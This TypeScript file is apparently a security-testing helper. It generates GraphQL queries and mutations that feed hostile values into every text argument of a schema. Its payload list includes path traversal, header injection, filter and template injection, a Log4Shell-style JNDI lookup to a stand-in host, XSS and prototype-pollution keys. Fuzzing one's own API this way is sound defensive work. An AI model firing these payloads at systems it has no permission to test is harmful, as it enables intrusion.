/** Hostile values for every argument of the schema, in operations that would use them. */
import {
  type GraphQLArgument,
  type GraphQLField,
  type GraphQLInputField,
  type GraphQLInputType,
  type GraphQLObjectType,
  type GraphQLSchema,
  getNamedType,
  isEnumType,
  isInputObjectType,
  isLeafType,
  isListType,
  isNonNullType,
  isObjectType,
} from "graphql";

/** Values that try to leave a path, query, header, log line or page, or to break a parser. */
export const hostileValues: readonly string[] = [
  "../../admin",
  "..",
  "%2e%2e%2f%2e%2e%2fadmin",
  "..%252f..%252fadmin",
  "..\\..\\admin",
  "//evil.example/x",
  "http://evil.example/",
  "x?admin=true#y",
  "x&filter=all&x=1",
  "x\r\nx-injected: 1",
  "x\u0000y",
  "' or 1 eq 1 or 'a' eq '",
  'x" OR type:user "',
  "*) OR (status:*",
  "{{constructor.constructor('x')()}}",
  ["$", "{jndi:ldap://evil.example}"].join(""),
  "<script>alert(1)</script>",
  "__proto__",
  "constructor",
  "\ud800",
  "",
  " ",
  "9".repeat(400),
  "ß".repeat(3_000),
];

export interface Attack {
  readonly coordinate: string;
  readonly query: string;
  readonly variables: Readonly<Record<string, unknown>>;
}

/** Operations with a hostile value in every text argument of all root and namespace fields. */
export function* attacksOn(schema: GraphQLSchema): Generator<Attack> {
  let turn = 0;
  const next = () => hostileValues[turn++ % hostileValues.length] ?? "";
  const { Query, Mutation } = schema.getTypeMap();
  if (isObjectType(Query)) yield* attacksFrom("query", Query, [], next);
  if (isObjectType(Mutation)) yield* attacksFrom("mutation", Mutation, [], next);
}

function* attacksFrom(
  kind: string,
  type: GraphQLObjectType,
  through: readonly string[],
  next: () => string,
): Generator<Attack> {
  for (const field of Object.values(type.getFields())) {
    const result = getNamedType(field.type);
    const namespace = isObjectType(result) && field.args.length === 0 && !("id" in result.getFields());
    if (namespace && through.length < 2 && !result.name.endsWith("Connection"))
      yield* attacksFrom(kind, result, [...through, field.name], next);
    if (!field.args.some(({ type: argument }) => holdsText(argument, 0))) continue;
    // Once alone, and once after a valid type name, as in global ids.
    for (const before of ["", isObjectType(result) ? `${result.name}:` : ""])
      yield attackOn(kind, type.name, field, through, before + next());
  }
}

function attackOn(
  kind: string,
  parent: string,
  field: GraphQLField<unknown, unknown>,
  through: readonly string[],
  hostile: string,
): Attack {
  const given = field.args.filter(isGiven);
  const declared = given.map(({ name, type }) => `$${name}: ${type}`).join(", ");
  const passed = given.map(({ name }) => `${name}: $${name}`).join(", ");
  const open = through.map((name) => `${name} { `).join("");
  const query = `${kind} Hostile(${declared}) { ${open}${field.name}(${passed})${selectionOf(field)} ${"} ".repeat(through.length)}}`;
  const variables = Object.fromEntries(given.map(({ name, type }) => [name, inputOf(type, hostile, 0)]));
  return { coordinate: `${parent}.${field.name}`, query, variables };
}

const DEPTH = 3;

/** True for a required argument, and for one that can have a hostile value. */
const isGiven = ({ type, name }: GraphQLArgument | GraphQLInputField) =>
  isNonNullType(type) || (holdsText(type, 0) && !["after", "before"].includes(name));

function holdsText(type: GraphQLInputType, depth: number): boolean {
  const named = getNamedType(type);
  if (isInputObjectType(named))
    return (
      depth < DEPTH && Object.values(named.getFields()).some((field) => holdsText(field.type, depth + 1))
    );
  return ["ID", "String", "JSON"].includes(named.name);
}

const plain: Readonly<Record<string, unknown>> = {
  Int: 1,
  Float: 1,
  Boolean: false,
  Decimal: "1.00",
  Date: "2026-05-04",
  DateTime: "2026-05-04T09:30:00Z",
};

function inputOf(type: GraphQLInputType, hostile: string, depth: number): unknown {
  if (isNonNullType(type)) return inputOf(type.ofType, hostile, depth);
  if (isListType(type)) return [inputOf(type.ofType, hostile, depth)];
  if (isEnumType(type)) return type.getValues()[0]?.name;
  if (isInputObjectType(type))
    return Object.fromEntries(
      Object.values(type.getFields())
        .filter((field) => isNonNullType(field.type) || (depth < DEPTH && holdsText(field.type, depth)))
        .map((field) => [field.name, inputOf(field.type, hostile, depth + 1)]),
    );
  return plain[type.name] ?? hostile;
}

/** Some scalar fields of a field's type, so that the object is read. */
function selectionOf(field: GraphQLField<unknown, unknown>): string {
  const type = getNamedType(field.type);
  if (isLeafType(type)) return "";
  if (!isObjectType(type)) return " { __typename }";
  const { nodes, userErrors } = type.getFields();
  if (userErrors) return " { userErrors { field message code } }";
  if (nodes && type.name.endsWith("Connection")) return ` { nodes${selectionOf(nodes)} }`;
  const leaves = Object.values(type.getFields())
    .filter((one) => isLeafType(getNamedType(one.type)) && one.args.length === 0)
    .slice(0, 4)
    .map(({ name }) => name);
  return ` { __typename ${leaves.join(" ")} }`;
}
